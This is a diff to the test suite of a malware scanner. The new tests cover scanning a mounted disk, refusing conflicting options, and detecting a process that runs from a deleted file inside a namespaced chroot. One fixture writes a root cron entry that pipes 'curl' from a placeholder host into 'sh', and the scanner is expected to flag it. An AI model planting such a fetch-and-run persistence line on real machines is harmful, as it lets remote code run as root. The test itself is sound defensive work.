@@ -149,12 +149,127 @@ def outcomes_and_lines(m):
     same([(line["type"], line.get("reason")) for line in lines],
         [("not_scanned", "size"), ("summary", None)], "larger than allowed")
     m.scan(m.folder / "not-there", status=2)
-    m.scan(status=2)
     m.scan("--json", "--all-matches", alone, status=2)
     m.scan("--workers", "many", alone, status=2)
     m.scan("--max-size", "0", alone, status=2)
     m.scan("--html", m.folder / "x", "--sarif", m.folder / "x", alone, status=2)
     m.scan("--nonsense", alone, status=2)
+
+
+def other_disk(m):
+    """A mounted disk: where it starts programs, and its files; nothing of the machine that runs."""
+    disk = m.folder / "disk"
+    for folder in ("etc/cron.d", "home/lan/Downloads", "srv"):
+        (disk / folder).mkdir(parents=True)
+    (disk / "etc/cron.d/update").write_text("# a comment\n* * * * * root curl -s http://x.invalid/a | sh\n")
+    (disk / "etc/crontab").write_text("17 * * * * root cd / && run-parts /etc/cron.hourly\n")
+    (disk / "home/lan/Downloads/a").write_text("PLANTED-FOR-MIRAI")
+    (disk / "srv/b").write_text("PLANTED-FOR-MIRAI")
+    lines = m.lines("--root", disk, status=1)
+    kinds = {f["path"]: f["kind"] for f in lines if f["type"] == "finding"}
+    same(kinds, {f"{disk}/etc/cron.d/update": "place", f"{disk}/home/lan/Downloads/a": "file",
+        f"{disk}/srv/b": "file"}, "what is on the disk")
+    odd = next(f for f in lines if f.get("kind") == "place")
+    same((odd["outcome"], odd["rules"][0]["rule"]), ("suspicious", "fetches-and-runs"), "why")
+    check(odd["object"].startswith("line 2: "), "which line")
+    same((lines[-1]["places"], lines[-1]["processes"], lines[-1]["connections"]), (2, 0, 0), "totals")
+    quick = m.lines("--root", os.path.relpath(disk), "--quick", status=1)
+    same({f["path"] for f in quick if f["type"] == "finding"}, set(kinds) - {f"{disk}/srv/b"},
+        "quick: only where malware is dropped")
+    said = m.scan("--root", disk, "--lang", "vi", status=1).stdout.decode()
+    for words in ("etc/cron.d/update, dòng 2", "theo giờ hẹn", "tải một chương trình từ mạng về",
+            "Đã xem 2 nơi tự chạy"):
+        check(words in said, f"{words} in {said}")
+    check("Rút dây mạng" not in said, "the machine that runs is not the one that is ill")
+
+
+def nonsense(m):
+    """What cannot be meant together is refused before anything is done, with the reason."""
+    disk = m.folder / "disk"
+    for arguments, words in ((("--quick", disk), "--quick and"), (("--root", disk, disk), "--root and"),
+            (("--root", m.folder / "nowhere"), "nowhere: not found"),
+            (("--root", disk / "etc/crontab"), "no folder"), (("--root", "/"), "leave it out"),
+            (("--resume", "--no-cache", disk), "--resume and --no-cache"),
+            (("--resume", "--root", disk), "--resume and --root"),
+            (("--explain", "mirai", "--quick"), "--explain and --quick"),
+            ((m.here, m.folder / "nowhere"), "nowhere: not found")):
+        done = m.scan(*arguments, status=2)
+        check(words.encode() in done.stderr and not done.stdout, f"{arguments}: {done.stderr!r}")
+
+
+# A machine as small as can be: its own mounts and processes, with one that runs from a deleted file.
+SMALL = r"""
+set -e
+mount -t tmpfs none "$1"
+cd "$1"; shift
+mkdir usr proc etc tmp data packs dev home home/lan out
+mount --bind /usr usr
+for name in bin lib lib64; do [ ! -e usr/$name ] || ln -s usr/$name $name; done
+mount -t proc proc proc
+mount -t tmpfs none data
+touch dev/null
+mount --bind /dev/null dev/null
+cp -r "$FROM"/disk/. .
+cp "$FROM"/one.pack "$FROM"/one.pack.minisig "$FROM"/key.pub packs
+echo root:x:0:0:root:/root:/bin/sh >etc/passwd
+cp "$QUETSACH_SCAN" scan
+cp srv/b data/on-another-disk
+mkdir -p home/lan/.local/state
+cp -r "$FROM"/texts-state home/lan/.local/state/quetsach-scan
+cp -r "$FROM"/texts-state home/lan/.local/state/copy
+cp usr/bin/sleep tmp/runs
+cat srv/b >>tmp/runs
+chroot . /tmp/runs 60 &
+sleep 0.2
+rm tmp/runs
+[ -z "$NOBODY" ] || { chmod -R a+rX packs; set -- setpriv --reuid 65534 --clear-groups "$@"; }
+exec chroot . "$@"
+"""
+
+
+def small_machine(m, *arguments, status, nobody=False):
+    place = m.folder / "small"
+    place.mkdir(exist_ok=True)
+    command = ["unshare", "-mpf", "sh", "-c", SMALL, "sh", place, "/scan", "--pack", "/packs/one.pack",
+        "--public-key", "/packs/key.pub", "--state", "/out/state", *arguments]
+    done = subprocess.run(list(map(str, command)), capture_output=True, env={**os.environ,
+        "FROM": str(m.folder), "LC_ALL": "C.UTF-8", "NOBODY": "1" if nobody else "",
+        "ASAN_OPTIONS": "detect_leaks=0"})
+    if done.returncode != status:
+        raise SystemExit(f"FAILED: {arguments}: exit {done.returncode}, expected {status}\n"
+            f"{done.stdout!r}\n{done.stderr!r}")
+    return done
+
+
+def whole_machine(m):
+    if os.geteuid() != 0 or subprocess.run(["unshare", "-mpf", "true"]).returncode != 0:
+        print("no rights to make a small machine: the whole of one not tried")
+        return
+    m.lines(m.folder / "ours", status=1, state=m.folder / "texts-state")
+    done = small_machine(m, "--json", "--exclude", "/usr/*", status=1)
+    lines = [json.loads(line) for line in done.stdout.splitlines()]
+    found = {f["path"]: f for f in lines if f["type"] == "finding"}
+    process = next(f for f in lines if f.get("kind") == "process" and f["outcome"] == "infected")
+    same((process["process"]["program"], process["process"]["owner"]), ("/tmp/runs", "root"), "who")
+    same(process["family"], "Mirai", "what is in a file without a name")
+    check(process["path"].split()[1] == str(process["process"]["pid"]), "its number")
+    check({"/srv/b", "/data/on-another-disk", "/etc/cron.d/update"} <= set(found), f"{set(found)}")
+    check("/home/lan/.local/state/quetsach-scan/engine" not in found, "another user's engine")
+    check("/home/lan/.local/state/copy/engine" in found, "its copy elsewhere is a file like others")
+    strays = [f for f in lines if f.get("kind") == "process" and "runs" not in f["path"]]
+    same(strays, [], "the scanner's own processes")
+    check(lines[-1]["places"] > 1 and lines[-1]["processes"] > 0, "totals")
+
+    done = small_machine(m, "--quick", "--lang", "vi", status=1)
+    quick = done.stdout.decode()
+    check("chương trình đang chạy runs (số" in quick and "bằng tài khoản root" in quick, f"{done}")
+    check("/srv/b" not in quick and "home/lan/Downloads/a" in quick, "where malware is dropped")
+    check("sudo" not in quick, "root is told nothing of rights")
+
+    mine = small_machine(m, "--quick", "--lang", "en", status=1, nobody=True)
+    words = mine.stdout.decode()
+    check("sudo /scan --pack /packs/one.pack" in words, f"how to see all: {words}")
+    same(words.count("sudo"), 1, "told once")
 
 
 def pairs(m):
@@ -363,6 +478,7 @@ def progress_and_interruption(m):
     same(status, 3, "interrupted, nothing found")
     words = " ".join(re.sub(r"\x1b\[[0-9;]*[mK]", "", shown).split())
     check("Đã dừng giữa chừng" in words and "chưa thể kết luận" in words, f"what is done: {words}")
+    check("thêm --resume" in words, f"how to go on: {words}")
     last = m.lines("--resume", STILL, status=0, state=state)[-1]
     same((last["files"], last["interrupted"]), (whole["files"], False), "in the end all")
     known = m.lines(STILL, status=0, state=state)[-1]["cached"] > 0
@@ -371,9 +487,17 @@ def progress_and_interruption(m):
     child = subprocess.Popen(m.command("--json", "--io", speed, "--no-cache", STILL),
         stdout=subprocess.PIPE)
     time.sleep(1)
+    # Stopped by a person or with the machine, it goes on as if nothing had been.
+    child.send_signal(signal.SIGTSTP)
+    same(os.WIFSTOPPED(os.waitpid(child.pid, os.WUNTRACED)[1]), True, "SIGTSTP stops")
+    time.sleep(1.5)
+    same(os.waitpid(child.pid, os.WNOHANG | os.WCONTINUED), (0, 0), "still stopped")
+    child.send_signal(signal.SIGCONT)
+    time.sleep(0.5)
+    same(child.poll(), None, "SIGCONT goes on")
     child.send_signal(signal.SIGTERM)
     last = json.loads(child.communicate()[0].splitlines()[-1])
-    same((child.returncode, last["interrupted"]), (3, True), "SIGTERM")
+    same((child.returncode, last["interrupted"], last["not_scanned"]), (3, True, 1), "SIGTERM")
 
 
 class Page(html.parser.HTMLParser):
@@ -391,8 +515,8 @@ class Page(html.parser.HTMLParser):
 
 
 def report_for_people(m):
-    for lang, words in (("vi", ("Máy này có tệp bị nhiễm mã độc: 2", "Nên làm gì bây giờ",
-            "Các từ dùng trong báo cáo")), ("en", ("There are infected files on this machine: 2",
+    for lang, words in (("vi", ("Tìm thấy mã độc ở 2 nơi", "Nên làm gì bây giờ",
+            "Các từ dùng trong báo cáo")), ("en", ("Malware was found in 2 places",
             "What to do now", "Words in this report"))):
         path = m.folder / f"report-{lang}.html"
         m.scan("--quiet", "--html", path, "--lang", lang, m.here, status=1)
@@ -458,7 +582,7 @@ def system_log(m):
 def main():
     machine = Machine()
     machine.pack("one.pack")
-    for step in (outcomes_and_lines, pairs, hostile_names, only_our_packs, never_backwards,
+    for step in (outcomes_and_lines, other_disk, nonsense, whole_machine, pairs, hostile_names, only_our_packs, never_backwards,
             kept_engine, known_verdicts, own_things, languages, on_screen,
             progress_and_interruption, report_for_people, sarif, system_log):
         step(machine)
